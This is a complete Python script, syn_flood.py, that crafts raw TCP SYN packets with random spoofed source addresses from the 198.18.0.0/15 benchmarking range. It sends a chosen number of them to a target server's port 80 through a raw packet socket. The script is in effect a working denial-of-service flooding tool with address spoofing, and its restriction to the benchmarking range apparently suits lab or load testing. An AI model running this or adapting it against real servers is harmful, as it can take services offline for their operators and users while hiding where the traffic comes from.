"""Sends SYNs from ever other addresses of 198.18.0.0/15 out of an interface: syn_flood.py INTERFACE MAC SERVER COUNT."""

import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(ethernet, server, draw):
    source = struct.pack("!I", 0xC612_0000 | draw.getrandbits(17))
    options = struct.pack("!BBHBBBBIIBBBB", 2, 4, 1460, 4, 2, 8, 10, draw.getrandbits(32), 0, 1, 3, 3, 7)
    tcp = struct.pack("!HHIIBBHHH", draw.randrange(1024, 65536), 80, draw.getrandbits(32), 0, 10 << 4, 2, 64240, 0, 0) + options
    pseudo = source + server + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + server
    return ethernet + header[:10] + struct.pack("!H", checksum(header)) + header[12:] + tcp


def main(interface, mac, server, count):
    draw = random.Random(1)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        own = wire.getsockname()[4]
        ethernet = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00"
        address = socket.inet_aton(server)
        for _ in range(count):
            wire.send(syn(ethernet, address, draw))


main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]))
